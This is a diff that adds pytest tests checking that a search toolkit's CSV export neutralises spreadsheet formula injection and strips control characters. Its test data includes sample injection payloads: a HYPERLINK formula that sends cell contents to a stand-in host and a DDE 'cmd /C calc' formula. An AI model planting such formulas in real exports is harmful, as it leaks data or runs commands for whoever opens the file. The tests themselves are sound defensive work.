@@ -5,11 +5,16 @@ from __future__ import annotations
 import csv
 import io
 import json
+from dataclasses import replace
+from typing import Any
+
+import pytest
 
 from searchkit.model.article import Article
 from searchkit.model.passage import Extraction, Paragraph, Quote
 from searchkit.model.results import FacetCount, Found, Hit, Results, Suggestion
 from searchkit.render.json_output import extraction_json, hits_csv, hits_jsonl, results_json, to_line
+from searchkit.text.control_characters import without_controls
 
 HIT = Hit(
     id="a#q0",
@@ -105,6 +110,62 @@ def test_a_table_of_hits_with_lists_as_json_and_line_ends_in_cells() -> None:
     assert list(row) == list(PLAIN)
     assert row["text"] == HIT.text
     assert (row["spans"], row["tags"], row["copies"], row["score"]) == ("[[0, 5], [8, 19]]", '["x", "y"]', "[]", "")
+
+
+FORMULAS = [
+    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://a.example/?"&A1,"open")', "=cmd|' /C calc'!A0"),
+    *("＝1", "＋1", "－1", "＠a", "﹦1", "﹢1", "﹣1", "﹫a", "\u22121"),
+    *("  =1", "\xa0=1", "\u3000＝1", "\t=1", "\r=1", "\n=1", "\r\n=1", " \t \n=1"),
+    *("\x00=1", "\x1b=1", "\x85=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\xad@a", "\u2028=1", "\u2060 \u200e-1"),
+    *("\tplain", "\rplain", "\nplain", "- said Ada Pell", "-5 degrees", "+44 20 7946 0000", "@adapell"),
+]
+TEXTS = [
+    "",
+    "plain",
+    "a=1",
+    "1-1",
+    "a@b.example",
+    "“=1”",
+    "'=1",
+    " plain",
+    "— said Ada Pell",
+    "–5",
+    "(=1",
+    "\ufffd=1",
+    "2018-05-17",
+]
+
+
+def cell(text: str, *, raw: bool = False) -> str:
+    """The text of a hit as a program reads it from CSV."""
+    found = Found(1, 0, (replace(HIT, text=text),))
+    [row] = csv.DictReader(io.StringIO(hits_csv(Results("no", {}, "", found), raw=raw), newline=""))
+    return row["text"]
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
+def test_a_cell_is_no_formula(text: str) -> None:
+    assert cell(text) == f"'{cell(text, raw=True)}"
+    assert cell(text, raw=True) == without_controls(text)
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_other_cells_are_as_they_were(text: str) -> None:
+    assert cell(text) == cell(text, raw=True) == text
+
+
+def test_every_text_of_a_hit_is_defused_and_numbers_are_not() -> None:
+    texts = ("id", "text", "context", "speaker", "mention", "role", "cue", "via", "title", "source", "url", "path")
+    changes: dict[str, Any] = {**dict.fromkeys(texts, "=1"), "score": -0.5, "authors": ("=1",)}
+    hit = replace(HIT, **changes)
+    [row] = csv.DictReader(io.StringIO(hits_csv(Results("no", {}, "", Found(1, 0, (hit,))))))
+    assert {name for name, value in row.items() if value == "'=1"} == {*texts}
+    assert (row["score"], row["authors"]) == ("-0.5", '["=1"]')
+
+
+def test_a_table_holds_text_but_no_control_characters() -> None:
+    assert cell("a\x1b[31mb\x9bc\td\ne\x85f\x00") == "a\ufffd[31mb\ufffdc d\ne f\ufffd"
+    assert cell("ש\u200f \u202bא\u202c \u2028") == "ש\u200f \u202bא\u202c \u2028"
 
 
 def test_an_extraction() -> None:
